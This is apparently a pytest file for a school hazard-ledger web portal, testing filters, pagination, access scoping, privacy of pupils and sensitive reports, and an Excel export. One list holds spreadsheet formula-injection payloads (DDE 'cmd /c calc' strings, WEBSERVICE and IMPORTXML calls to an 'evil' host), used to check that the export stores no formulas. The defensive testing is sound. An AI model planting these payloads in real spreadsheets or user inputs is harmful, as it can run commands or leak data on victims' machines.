"""The ledger: the same cards as a table, its filters, and the monthly form as a workbook that carries no formula."""

import io
import zipfile
from datetime import date, datetime

import openpyxl
import pytest

from portal.core.clock import now
from portal.core.database import execute, fetch_value, insert
from portal.hazards.ledger import labels, views
from portal.hazards.ledger.filters import Filter, filter_of, span_of
from portal.hazards.ledger.workbook import form_workbook
from portal.hazards.services import name_viewer
from portal.hazards.tables import Hazard
from tests.cast import Cast
from tests.conftest import Browsers, MovingClock
from tests.hazards import stories

PAYLOADS = [
    "=1+1", '=HYPERLINK("http://evil","x")', "=cmd|'/c calc'!A1", "+1+1", "+cmd|'/c calc'!A1", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://evil","//a")', '=WEBSERVICE("http://evil")', "{=SUM(A1:A2)}",
    "=\u200b1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", '"=1+1', "http://evil.example/", "mailto:a@b.c",
    "internal:Sheet1!A1", "0123", "1e5", "=",
]  # fmt: skip


def sheet_of(body: bytes):
    return openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]


def lines_of(body: bytes) -> list[dict[str, object]]:
    rows = list(sheet_of(body).iter_rows(min_row=3, values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize(
    ("address", "found"),
    [
        ({}, Filter()),
        ({"status": "x", "level": "x", "group": "'; --", "month": "2026-13", "page": "-1", "overdue": "yes"}, Filter()),
        ({"status": "recheck", "level": "red", "page": "3"}, Filter(status="recheck", level="red", page=3)),
        ({"q": "  50%  a_b  ", "mine": "1"}, Filter(q="50% a_b", mine=True)),
        ({"month": "2026-02", "page": "٣"}, Filter(month="2026-02")),
    ],
)
def test_an_address_is_read_as_what_it_means_or_not_at_all(address: dict[str, str], found: Filter) -> None:
    assert filter_of(address) == found
    assert Filter().query == ""


def test_a_month_ends_where_the_next_begins() -> None:
    assert span_of("2026-12")[1] == span_of("2027-01")[0]
    assert (span_of("2028-02")[1] - span_of("2028-02")[0]).days == 29


@pytest.mark.parametrize("htmx", [False, True], ids=["plain", "htmx"])
async def test_filters_narrow_the_table_and_each_number_is_its_rows(
    browsers: Browsers, cast: Cast, clock: MovingClock, htmx: bool
) -> None:
    await stories.reported(cast, title="窗户松动")
    await stories.assigned(cast, title="门锁坏了", level="red")
    await stories.rechecking(cast, title="插座松脱")
    await stories.closed(cast, title="地砖翘起")
    await stories.reported(cast, title="书架不稳 50%_a", by=cast.sibling_keeper, grid=cast.sibling_room)
    clock.forward(days=3)
    browser = await browsers.of(cast.safety, htmx=htmx)
    here = f"/grids/{cast.school}/ledger"
    cases = {
        "": {"窗户松动", "门锁坏了", "插座松脱", "书架不稳 50%_a"},
        "?status=all": {"窗户松动", "门锁坏了", "插座松脱", "地砖翘起", "书架不稳 50%_a"},
        "?status=closed": {"地砖翘起"},
        "?status=recheck": {"插座松脱"},
        "?level=red": {"门锁坏了"},
        "?level=none": {"窗户松动", "书架不稳 50%_a"},
        "?group=fire": {"门锁坏了", "插座松脱"},
        "?overdue=1": {"窗户松动", "门锁坏了", "书架不稳 50%_a"},
        "?month=2026-11": {"窗户松动", "门锁坏了", "插座松脱", "书架不稳 50%_a"},
        "?month=2026-10": set(),
        "?mine=1": set(),
        "?q=松": {"窗户松动", "插座松脱"},
        "?q=%25": {"书架不稳 50%_a"},
        "?q=_": {"书架不稳 50%_a"},
        "?q=2026-0002": {"门锁坏了"},
        "?q=图书室": {"书架不稳 50%_a"},
        "?q=松&status=recheck": {"插座松脱"},
    }
    every = cases["?status=all"]
    for query, wanted in cases.items():
        await browser.get(here + query)
        assert {title for title in every if title in browser.text} == wanted, query
        assert f"共 {len(wanted)} 条" in browser.text, query
    await browser.get(here)
    assert "博学楼·一楼·化学实验室(东)" in browser.text
    chips = {
        href: int(text.split()[-1]) for href, text in browser.links if href.startswith("?") and text[-1:].isdigit()
    }
    assert chips
    for href, count in chips.items():
        await browser.get(here + href)
        assert f"共 {count} 条" in browser.text, href


async def test_a_ledger_shows_its_own_part_of_the_tree(browsers: Browsers, cast: Cast) -> None:
    await stories.reported(cast, title="窗户松动")
    await stories.reported(cast, title="书架不稳", by=cast.sibling_keeper, grid=cast.sibling_room)
    browser = await browsers.of(cast.chief)
    await browser.get(f"/grids/{cast.building}/ledger")
    assert "窗户松动" in browser.text
    assert "书架不稳" not in browser.text
    missing = await browser.get("/grids/99999/ledger")
    for grid in (cast.school, cast.sibling_building, cast.other_room):
        for page in ("ledger", "ledger.xlsx"):
            foreign = await browser.get(f"/grids/{grid}/{page}")
            same = missing.text.replace("/grids/99999/ledger", f"/grids/{grid}/{page}")
            assert (foreign.status_code, foreign.text) == (404, same)


async def test_pages_of_fifty(browsers: Browsers, cast: Cast) -> None:
    await many(cast, 120)
    browser = await browsers.of(cast.safety)
    seen = set[str]()
    await browser.get(f"/grids/{cast.school}/ledger?q=第")
    for pages in range(3):
        seen |= {text for href, text in browser.links if "/hazards/" in href and text.startswith("2026-")}
        if pages < 2:
            href = next(href for href, text in browser.links if text == "下一页")
            await browser.get(f"/grids/{cast.school}/ledger{href}")
    assert len(seen) == 120
    assert "101–120，共 120" in browser.text


async def many(cast: Cast, count: int, *, first: int = 1) -> None:
    """Rows by the table, because the verbs would take a minute."""
    at = now()
    row = {
        "org_id": cast.school, "grid_id": cast.room, "status": "reported", "reported_at": at, "column_since": at,
        "last_moved_at": at, "last_event_at": at, "due_at": at,
    }  # fmt: skip
    await insert(
        Hazard, *({**row, "number": f"2026-{n:04d}", "title": f"第 {n} 条"} for n in range(first, first + count))
    )


async def test_the_workbook_has_the_columns_of_the_monthly_form(
    browsers: Browsers, cast: Cast, clock: MovingClock
) -> None:
    closed = await stories.closed(cast, title="地砖翘起")
    await stories.escalated(cast, title="整条线路老化", level="red")
    clock.forward(days=3)
    browser = await browsers.of(cast.safety)
    answer = await browser.get(f"/grids/{cast.school}/ledger.xlsx?status=all&oldest=1")
    assert answer.status_code == 200
    assert answer.headers["cache-control"] == "no-store"
    sheet = sheet_of(answer.content)
    assert [cell.value for cell in sheet[3]] == list(labels.FORM_HEAD.values())
    assert "填报单位;填报月份;序号;隐患编号;排查日期" in ";".join(labels.FORM_HEAD.values())
    assert len(labels.FORM_HEAD) == 26
    assert (sheet.freeze_panes, sheet.page_setup.orientation, str(sheet.page_setup.paperSize)) == (
        "E4",
        "landscape",
        "9",
    )
    done, sent = lines_of(answer.content)
    assert done["隐患内容"] == "地砖翘起"
    assert done["填报单位"] == "明德中学"
    assert done["隐患部位（网格）"] == "博学楼·一楼·化学实验室(东)"
    assert isinstance(done["排查日期"], datetime)
    assert done["排查日期"].date() == date(2026, 11, 23)
    assert done["完成日期"] == done["复查日期"] == done["排查日期"]
    assert (done["是否销号"], done["复查人"], done["发现人"], done["整改责任人"]) == (
        "是",
        "甄层长",
        "甄班主",
        "甄实验",
    )
    assert (done["填报月份"], done["隐患编号"], done["序号"]) == ("2026年11月", "2026-0001", 1)
    assert (sent["是否销号"], sent["上报去向"], sent["未完成原因"]) == ("否", "青云县教育局", "已上报，已超期")
    assert sent["临时防控措施"]
    event = await fetch_value("SELECT details FROM event WHERE kind = 'register.exported'")
    assert '"rows":2' in event
    assert closed


async def test_nothing_typed_becomes_a_formula(browsers: Browsers, cast: Cast) -> None:
    await many(cast, len(PAYLOADS))
    ids = range(await fetch_value("SELECT min(id) FROM hazard"), 10_000)
    for hazard_id, payload in zip(ids, PAYLOADS, strict=False):
        await execute(
            "UPDATE hazard SET title = {}, measure = {}, interim_measure = {}, conclusion = {}, plan_money = {} "
            "WHERE id = {}",
            *[payload] * 5, hazard_id,
        )  # fmt: skip
    await execute("UPDATE person SET name = {} WHERE id = {}", "=1+1", cast.safety)
    await execute("UPDATE grid SET name = {} WHERE id = {}", "=cmd|'/c calc'!A1", cast.school)
    browser = await browsers.of(cast.safety)
    answer = await browser.get(f"/grids/{cast.school}/ledger.xlsx?oldest=1")
    sheet = sheet_of(answer.content)
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert not formulas
    with zipfile.ZipFile(io.BytesIO(answer.content)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
        assert "hyperlink" not in str(parts.namelist()) + parts.read("xl/worksheets/sheet1.xml").decode()
    lines = lines_of(answer.content)
    assert [line["填表人"] for line in lines] == ["=1+1"] * len(PAYLOADS)
    for line, payload in zip(lines, PAYLOADS, strict=True):
        text = str(line["隐患内容"]).replace("_x000D_", "")  # how the format writes a carriage return
        assert text.split() == payload.split(), "the text comes back as it was"
        assert isinstance(line["隐患内容"], str)


def test_a_day_is_a_day_and_a_long_text_is_cut() -> None:
    body = form_workbook("t", "n", {"a": "A"}, [("x" * 40_000,), (date(2026, 11, 23),)])
    assert [len(str(value)) for (value,) in sheet_of(body).iter_rows(min_row=4, values_only=True)] == [32_000, 19]


async def test_pupils_are_in_no_export(browsers: Browsers, cast: Cast) -> None:
    hazard_id = await stories.reported(cast, title="窗户松动")
    await execute(
        "UPDATE hazard SET reported_by = {}, responsible_person_id = {} WHERE id = {}",
        cast.monitor,
        cast.monitor,
        hazard_id,
    )
    browser = await browsers.of(cast.safety)
    answer = await browser.get(f"/grids/{cast.school}/ledger.xlsx")
    [line] = lines_of(answer.content)
    assert (line["发现人"], line["整改责任人"]) == (None, None)
    with zipfile.ZipFile(io.BytesIO(answer.content)) as parts:
        assert all("甄小班" not in parts.read(name).decode("utf-8", "ignore") for name in parts.namelist())
    await browser.get(f"/grids/{cast.school}/ledger")
    assert "窗户松动" in browser.text
    assert "甄小班" not in browser.text


async def test_a_sensitive_card_is_exported_by_the_named_only(browsers: Browsers, cast: Cast) -> None:
    await stories.reported(cast, title="课间推搡", category=await stories.category("bully"))
    for person, sees in ((cast.safety, False), (cast.principal, False), (cast.bureau_officer, False)):
        browser = await browsers.of(person)
        await browser.get(f"/grids/{cast.school}/ledger?status=all")
        assert ("课间推搡" in browser.text, "共 0 条" in browser.text) == (sees, not sees)
        answer = await browser.get(f"/grids/{cast.school}/ledger.xlsx?status=all")
        assert not lines_of(answer.content)
    await name_viewer(cast.safety, by=await cast.actor(cast.principal))
    browser = await browsers.of(cast.safety)
    answer = await browser.get(f"/grids/{cast.school}/ledger.xlsx?status=all")
    assert [line["隐患内容"] for line in lines_of(answer.content)] == ["课间推搡"]


async def test_a_file_holds_so_many_and_says_so(
    browsers: Browsers, cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    from portal.hazards.ledger import routes

    monkeypatch.setattr(routes, "MOST_ROWS", 10)
    monkeypatch.setattr(views, "MOST_ROWS", 10)
    await many(cast, 12)
    browser = await browsers.of(cast.safety)
    await browser.get(f"/grids/{cast.school}/ledger")
    assert "一个文件最多 10 条" in browser.text
    answer = await browser.get(f"/grids/{cast.school}/ledger.xlsx")
    assert len(lines_of(answer.content)) == 10
    assert "一共 12 条，这里是其中 10 条" in str(sheet_of(answer.content)["A2"].value)


@pytest.mark.parametrize("htmx", [False, True], ids=["plain", "htmx"])
async def test_a_number_leads_to_its_card_or_says_that_there_is_none(
    browsers: Browsers, cast: Cast, htmx: bool
) -> None:
    hazard_id = await stories.reported(cast, title="窗户松动")
    secret = await stories.reported(cast, title="课间推搡", category=await stories.category("bully"))
    browser = await browsers.of(cast.safety, htmx=htmx)
    for number in ("2026-0001", "1", "0001"):
        answer = await browser.get(f"/hazards?q={number}")
        assert str(answer.url).endswith(f"/hazards/{hazard_id}")
    missing = await browser.get("/hazards?q=2026-0009")
    hidden = await browser.get("/hazards?q=2026-0002")
    assert "没有找到 2026-0009" in missing.text
    assert hidden.text == missing.text.replace("2026-0009", "2026-0002")
    assert secret
    stranger = await browsers.of(cast.other_safety, htmx=htmx)
    found = await stranger.get("/hazards?q=2026-0001")
    missing = await stranger.get("/hazards?q=2026-0009")
    assert found.text == missing.text.replace("2026-0009", "2026-0001")


async def test_a_bureau_chooses_between_schools_with_the_same_number(browsers: Browsers, cast: Cast) -> None:
    await stories.reported(cast, title="窗户松动")
    await stories.reported(cast, title="琴凳断腿", by=cast.other_safety, grid=cast.other_room)
    browser = await browsers.of(cast.bureau_officer)
    await browser.get("/hazards?q=2026-0001")
    assert "有 2 条是这个编号" in browser.text
    assert "明德中学" in browser.text
    assert "启智小学" in browser.text
    await browser.get(f"/grids/{cast.bureau}/ledger")
    assert "共 2 条" in browser.text
